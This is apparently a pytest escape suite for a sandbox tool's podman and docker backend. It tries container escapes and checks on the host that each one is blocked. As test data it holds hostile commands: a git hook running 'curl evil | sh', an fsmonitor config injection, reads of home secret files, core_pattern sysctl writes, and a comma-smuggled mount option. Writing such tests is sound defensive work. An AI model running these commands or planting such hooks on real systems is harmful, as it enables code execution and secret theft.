"""The escape suite for the container backend: real podman (root and rootless) and docker where an engine runs.

Each test is named after the attack it stops and sits next to a control showing the legitimate version works.
Results are checked on the host (file contents, owners, what is left behind), not only inside the container.
"""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from ctrbox import PRIVATE, SECRETS, Box

pytestmark = pytest.mark.podman


def _ok(res: object) -> None:
    import subprocess

    assert isinstance(res, subprocess.CompletedProcess)
    assert res.returncode == 0, f"exit {res.returncode}\nstdout: {res.stdout}\nstderr: {res.stderr}"


# ----------------------------------------------------------------------------------------------- filesystem


def test_reading_home_secrets_is_blocked(box: Box) -> None:
    paths = " ".join(str(box.home / rel) for rel in (*SECRETS, *PRIVATE))
    res = box.sh(f"for f in {paths}; do cat $f 2>/dev/null; done; ls -A {box.home}; echo done")
    _ok(res)
    assert "SECRET" not in res.stdout and "PRIVATE" not in res.stdout
    assert res.stdout.strip().splitlines()[-1] == "done"


def test_control_project_files_are_readable(box: Box) -> None:
    res = box.run("cat", "README.md")
    _ok(res)
    assert res.stdout == "hello\n"


def test_reading_host_paths_outside_the_project_is_blocked(box: Box) -> None:
    res = box.sh(f"cat {box.outside}/marker.txt; ls /home /root 2>&1; cat /etc/hostname; echo end")
    assert "OUTSIDE-marker" not in res.stdout
    assert "rccuser" not in res.stdout.split("end")[0].replace(str(box.base), "")


def test_writing_outside_the_project_is_blocked(box: Box) -> None:
    res = box.sh(f"echo x > {box.outside}/new.txt; echo x > /usr/local/bin/planted; echo x > /etc/planted; echo end")
    assert res.stdout.strip().endswith("end")
    assert not (box.outside / "new.txt").exists()
    assert "Read-only file system" in res.stderr or "No such file" in res.stderr


def test_control_writing_the_project_works_and_files_belong_to_the_user(box: Box) -> None:
    res = box.sh("mkdir -p sub && echo made > sub/new.txt && echo tmp > /tmp/t && cat /tmp/t")
    _ok(res)
    created = box.project / "sub" / "new.txt"
    assert created.read_text() == "made\n"
    st = created.stat()
    assert (st.st_uid, st.st_gid) == (box.uid, box.gid)  # keep-id (rootless) / --user (root)
    assert (box.project / "sub").stat().st_uid == box.uid


def test_planting_git_hooks_is_blocked(box: Box) -> None:
    res = box.sh("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo end")
    assert res.stdout.strip() == "end"
    assert not (box.project / ".git" / "hooks" / "pre-commit").exists()


def test_rewriting_git_config_is_blocked(box: Box) -> None:
    before = (box.project / ".git" / "config").read_text()
    res = box.sh("git config core.fsmonitor 'touch /tmp/pwned'; echo '[core] fsmonitor=x' >> .git/config; echo end")
    assert res.stdout.strip() == "end"
    assert (box.project / ".git" / "config").read_text() == before


def test_control_git_commit_in_the_container_works(box: Box) -> None:
    res = box.sh("echo change >> README.md && git add README.md && git -c user.name=A -c user.email=a@b.c commit -qm c")
    _ok(res)
    log = box.git("log", "--oneline").stdout
    assert len(log.strip().splitlines()) == 2


def test_renaming_the_git_dir_to_plant_hooks_is_blocked(box: Box) -> None:
    res = box.sh("mv .git .git-old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit; echo end")
    assert res.stdout.strip() == "end"
    assert (box.project / ".git" / "HEAD").exists()
    assert not (box.project / ".git-old").exists()
    assert not (box.project / ".git" / "hooks" / "pre-commit").exists()


def test_creating_missing_protected_files_is_blocked(box: Box) -> None:
    res = box.sh(
        "echo '{\"mcpServers\":{}}' > .mcp.json; mkdir -p .vscode; echo x > .vscode/tasks.json; "
        "echo 'export X=1' > .envrc; echo end"
    )
    assert res.stdout.strip() == "end"
    # The placeholders rcc created as mount points are gone again, and nothing was planted.
    for name in (".mcp.json", ".vscode", ".envrc"):
        assert not (box.project / name).exists(), name


def test_control_new_ordinary_dotfiles_can_be_created(box: Box) -> None:
    res = box.sh("echo ok > .prettierrc && cat .prettierrc")
    _ok(res)
    assert (box.project / ".prettierrc").read_text() == "ok\n"


def test_writing_the_image_is_blocked(box: Box) -> None:
    res = box.sh("echo x > /usr/bin/planted; echo x > /bin/planted; echo x > /planted; echo end")
    assert res.stdout.strip() == "end"
    assert res.stderr.count("Read-only file system") == 3


def test_control_tmp_and_home_are_writable_and_private(box: Box) -> None:
    res = box.sh('echo a > /tmp/a && echo b > "$HOME/b" && cat /tmp/a "$HOME/b" && ls -A "$HOME"')
    _ok(res)
    assert res.stdout.splitlines()[:2] == ["a", "b"]
    assert res.stdout.splitlines()[2:] == ["b"]  # an empty home (nothing copied from the image)
    assert not (box.home / "b").exists()


# ----------------------------------------------------------------------------------------------- privileges


def test_capabilities_are_all_dropped(box: Box) -> None:
    res = box.run("grep", "-E", "^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs)", "/proc/self/status")
    _ok(res)
    fields = dict(line.split(":\t") for line in res.stdout.strip().splitlines())
    for cap in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
        assert int(fields[cap], 16) == 0, (cap, fields[cap])
    assert fields["NoNewPrivs"] == "1"


def test_becoming_root_with_setuid_binaries_is_blocked(box: Box) -> None:
    # su is setuid root in the image; no-new-privileges makes the bit meaningless.
    res = box.sh("su -c id root </dev/null; chroot / true; mount -t tmpfs x /mnt; echo end")
    assert res.stdout.strip().splitlines()[-1] == "end"
    assert "uid=0" not in res.stdout.replace(f"uid={box.uid}(", "") or box.uid == 0


SYSCALLS = (
    "import ctypes,os,sys\n"
    "libc=ctypes.CDLL(None,use_errno=True)\n"
    "calls={'keyctl':(250,0,-3,0,0,0),'add_key':(248,b'user',b'k',b'v',1,-3),'unshare_user':(272,0x10000000)}\n"
    "for name,args in calls.items():\n"
    "    r=libc.syscall(*[ctypes.c_char_p(a) if isinstance(a,bytes) else ctypes.c_long(a) for a in args])\n"
    "    print(name, 'ALLOWED' if r>=0 else 'DENIED')\n"
)


def test_kernel_keyring_and_new_user_namespaces_are_blocked(box: Box) -> None:
    res = box.run("python3", "-c", SYSCALLS)
    _ok(res)
    assert res.stdout.split("\n")[:3] == ["keyctl DENIED", "add_key DENIED", "unshare_user DENIED"]
    res = box.run("unshare", "--user", "true")
    assert res.returncode != 0


def test_control_processes_and_threads_still_start(box: Box) -> None:
    script = (
        "import subprocess,threading\n"
        "t=threading.Thread(target=print,args=('thread-ok',)); t.start(); t.join()\n"
        "print(subprocess.run(['sh','-c','echo fork-ok'],capture_output=True,text=True).stdout.strip())\n"
    )
    res = box.run("python3", "-c", script)
    _ok(res)
    assert res.stdout.split() == ["thread-ok", "fork-ok"]


def test_control_the_command_runs_as_the_user(box: Box) -> None:
    res = box.run("id", "-u")
    _ok(res)
    assert res.stdout.strip() == str(box.uid)


def test_reaching_the_container_engine_socket_is_blocked(box: Box) -> None:
    socks = [
        "/run/podman/podman.sock",
        "/var/run/docker.sock",
        "/run/docker.sock",
        f"/run/user/{box.uid}/podman/podman.sock",
        f"/run/user/{box.uid}/docker.sock",
    ]
    res = box.sh(f"for s in {' '.join(socks)}; do test -e $s && echo FOUND $s; done; ls -A /run; echo end")
    _ok(res)
    assert "FOUND" not in res.stdout
    assert "podman" not in res.stdout.replace("podman-init", "")


def test_env_secrets_do_not_leak(box: Box) -> None:
    # DOCKER_HOST names the real socket: the docker client (rcc's side) uses it; the container must not see it.
    leaky = {"AWS_SECRET_ACCESS_KEY": "SECRET-aws", "GITHUB_TOKEN": "SECRET-gh"}
    leaky["DOCKER_HOST"] = "unix:///var/run/docker.sock"
    res = box.run("env", extra_env=leaky)
    _ok(res)
    assert "SECRET" not in res.stdout
    env = dict(line.split("=", 1) for line in res.stdout.splitlines() if "=" in line)
    for name in (*leaky, "PYTHONPATH", "XDG_DATA_HOME", "container"):
        assert name not in env, name
    # control: the allowlisted and rcc-set ones arrive
    assert env["HOME"] == str(box.home) and env["LANG"] == "C.UTF-8" and env["RCC_SANDBOX"] == "1"


def test_writing_kernel_sysctls_is_blocked(box: Box) -> None:
    """Root's container runs as uid 0 and sysctl files check only the uid: `kernel.core_pattern = |/project/x`
    would make the kernel run x as host root. /proc/sys is read-only (podman: the plan's bind and the engine's
    default; docker: the engine's default, runc refuses the bind). The value written back is the current one,
    so even a failing test changes nothing."""
    res = box.sh(
        "for k in kernel/core_pattern kernel/modprobe; do v=$(cat /proc/sys/$k) && "
        'printf "%s\\n" "$v" > /proc/sys/$k 2>/dev/null && echo "WROTE $k"; done; '
        "cat /proc/sys/kernel/ostype"
    )
    assert "WROTE" not in res.stdout, res.stdout
    assert "Linux" in res.stdout, res.stderr  # control: sysctls stay readable


def test_seeing_host_processes_is_blocked(box: Box) -> None:
    res = box.sh("ls /proc | grep -E '^[0-9]+$' | wc -l")
    _ok(res)
    assert int(res.stdout.strip()) < 10  # catatonit, sh, ls, grep, wc: its own PID namespace


def test_pids_limit_stops_fork_bombs(box: Box) -> None:
    res = box.sh("cat /sys/fs/cgroup/pids/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids.max")
    if box.who == "user" and not os.path.exists("/sys/fs/cgroup/cgroup.controllers"):
        # LIMITATION (docs/containers.md): rootless podman cannot set cgroup limits on cgroup v1; rcc then leaves
        # the options out (podman would only warn and ignore them) and the limit is the user's own.
        assert res.stdout.strip() in ("max", "")
        return
    _ok(res)
    assert res.stdout.strip() == "4096"


# ----------------------------------------------------------------------------------------------- network


@pytest.fixture
def host_loopback_server() -> Iterator[int]:
    """A TCP server on the host's 127.0.0.1 that a container must not reach directly."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen()
    stop = threading.Event()

    def loop() -> None:
        srv.settimeout(0.2)
        while not stop.is_set():
            try:
                c, _ = srv.accept()
            except (TimeoutError, OSError):
                continue
            c.sendall(b"HOST-LOOPBACK\n")
            c.close()

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    yield srv.getsockname()[1]
    stop.set()
    t.join()
    srv.close()


CONNECT = (
    "import socket,sys\n"
    "try:\n"
    "    s=socket.create_connection(('127.0.0.1',int(sys.argv[1])),timeout=3); print('GOT', s.recv(64))\n"
    "except OSError as e: print('FAILED', e)\n"
)


def test_direct_connection_to_host_loopback_is_blocked(box: Box, host_loopback_server: int) -> None:
    res = box.run("python3", "-c", CONNECT, str(host_loopback_server), network="proxy")
    _ok(res)
    assert "HOST-LOOPBACK" not in res.stdout
    assert "FAILED" in res.stdout


def test_control_proxy_listener_is_inside_the_container(box: Box) -> None:
    res = box.run("python3", "-c", CONNECT, "3128", network="proxy")
    _ok(res)
    assert "rcc-test-proxy-here" in res.stdout
    # and the proxy variables point at it
    res = box.run("sh", "-c", "echo $HTTPS_PROXY", network="proxy")
    assert res.stdout.strip() == "http://127.0.0.1:3128"


def test_only_loopback_interface_exists(box: Box) -> None:
    res = box.run("ls", "/sys/class/net", network="proxy")
    _ok(res)
    assert res.stdout.split() == ["lo"]


def test_no_network_mode_has_no_proxy_either(box: Box) -> None:
    res = box.run("python3", "-c", CONNECT, "3128", network="none")
    _ok(res)
    assert "FAILED" in res.stdout


# ----------------------------------------------------------------------------------------------- options


def test_mount_option_injection_via_comma_in_project_path_is_refused(box: Box) -> None:
    # `--mount type=bind,src=/x/p,U=true,dst=...`: a comma would smuggle options in (U=true chowns the source)
    evil = box.base / "p,U=true"
    evil.mkdir()
    os.chown(evil, box.uid, box.gid)
    res = box.run("true", project=evil)
    assert res.returncode == 78, res.stderr  # ExitCode.CONFIG: refused before any engine ran
    assert "option syntax" in res.stderr


def test_control_project_path_with_spaces_and_colons_works(box: Box) -> None:
    odd = box.base / "my proj:v2"
    odd.mkdir()
    (odd / "f.txt").write_text("odd\n")
    for p in (odd, odd / "f.txt"):
        os.chown(p, box.uid, box.gid)
    res = box.run("cat", "f.txt", project=odd)
    _ok(res)
    assert res.stdout == "odd\n"


def test_exit_status_passes_through(box: Box) -> None:
    assert box.sh("exit 7").returncode == 7
    assert box.run("no-such-command-xyz").returncode in (126, 127)


# ----------------------------------------------------------------------------------------------- lifetime


def _containers(box: Box) -> set[str]:
    import subprocess

    out = subprocess.run(
        box.as_user([box.engine, "ps", "--all", "--format", "{{.Names}}"]),
        capture_output=True,
        text=True,
        cwd="/",
        check=False,
    )
    return {n for n in out.stdout.split() if n.startswith("rcc-")}


@pytest.mark.parametrize("network", ["none", "proxy"])
@pytest.mark.parametrize("sig", ["SIGKILL", "SIGTERM"])
def test_container_outliving_a_killed_rcc_is_prevented(box: Box, sig: str, network: str) -> None:
    import signal
    import subprocess
    import time

    before = _containers(box)
    marker = box.project / "still-running"
    script = f"sleep 2; while true; do date >> {marker}; sleep 0.2; done"
    driver = [box.python, str(Path(__file__).parent / "drive.py"), "--engine", box.engine, "--image"]
    from ctrbox import base_image

    driver += [base_image(), "--network", network, "--project", str(box.project), "--", "sh", "-c", script]
    proc = subprocess.Popen(box.as_user(driver), cwd=box.project, stdin=subprocess.DEVNULL, start_new_session=True)
    try:
        deadline = time.monotonic() + 60
        while not marker.exists() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert marker.exists(), "the container never started"
        # the driver (rcc) is the python process under runuser/env: signal exactly that one
        rcc_pid = _python_child(proc.pid)
        os.kill(rcc_pid, getattr(signal, sig))
        deadline = time.monotonic() + 30
        while _containers(box) - before and time.monotonic() < deadline:
            time.sleep(0.5)
        assert not (_containers(box) - before), "the container outlived rcc"
        size = marker.stat().st_size
        time.sleep(1)
        assert marker.stat().st_size == size, "the command still runs"
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
        leftover = sorted(_containers(box) - before)  # only the ones this test started
        if leftover:
            for verb in (["kill"], ["rm", "--force"]):
                subprocess.run(box.as_user([box.engine, *verb, *leftover]), capture_output=True, check=False, cwd="/")


def _python_child(pid: int) -> int:
    """The python process at or below `pid` (runuser and env exec or fork into it)."""
    import time

    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        todo = [pid]
        while todo:
            p = todo.pop()
            try:
                with open(f"/proc/{p}/cmdline", "rb") as f:
                    cmd = f.read().split(b"\0")
                with open(f"/proc/{p}/task/{p}/children") as f:
                    kids = [int(k) for k in f.read().split()]
            except OSError:
                continue
            if any(b"drive.py" in c for c in cmd) and b"python" in cmd[0]:
                return p
            todo += kids
        time.sleep(0.1)
    raise AssertionError("driver process not found")


def test_rootless_docker_is_refused_rather_than_run_with_wrong_owners() -> None:
    """Rootless docker maps the container's uids to subordinate ids (a file made in the project would belong to
    100000+uid) and on cgroup v1 ignores the pids/memory limits without an error: rcc refuses it (exit 78).
    Needs a rootless dockerd for the test user (docs/containers.md says how); the control is every docker test
    above, run by root's daemon."""
    import pwd
    import subprocess

    from ctrbox import HOST_PATH, SRC, TEST_USER, base_image

    from rcctest import is_root, require

    require(is_root(), "starts the driver as the test user")
    pw = pwd.getpwnam(TEST_USER)
    sock = f"/run/user/{pw.pw_uid}/docker.sock"
    env = [f"HOME={pw.pw_dir}", f"PATH={HOST_PATH}", f"DOCKER_HOST=unix://{sock}"]
    as_user = ["runuser", "-u", TEST_USER, "--", "env", "-i", *env]
    info = subprocess.run([*as_user, "docker", "info"], capture_output=True, text=True, check=False, cwd="/")
    if info.returncode != 0 or "rootless" not in info.stdout:
        pytest.skip(f"no rootless dockerd for {TEST_USER} at {sock} (docs/containers.md: rootless docker)")
    import shutil
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="rcc-ctr-test-", dir="/tmp"))  # the test user can reach it
    base.chmod(0o755)
    project = base / "proj"
    project.mkdir()
    os.chown(project, pw.pw_uid, pw.pw_gid)
    subprocess.run([*as_user, "git", "init", "-q", str(project)], check=True, cwd="/")
    driver = ["/usr/bin/python3", str(Path(__file__).parent / "drive.py"), "--engine", "docker"]
    driver += ["--image", base_image(), "--project", str(project), "--", "touch", "made"]
    res = subprocess.run(
        [*as_user, f"PYTHONPATH={SRC}:{Path(__file__).parent}", *driver],
        capture_output=True,
        text=True,
        check=False,
        cwd=project,
    )
    try:
        assert res.returncode == 78, res.stderr
        assert "rootless docker is not supported" in res.stderr
        assert not (project / "made").exists()
    finally:
        shutil.rmtree(base, ignore_errors=True)
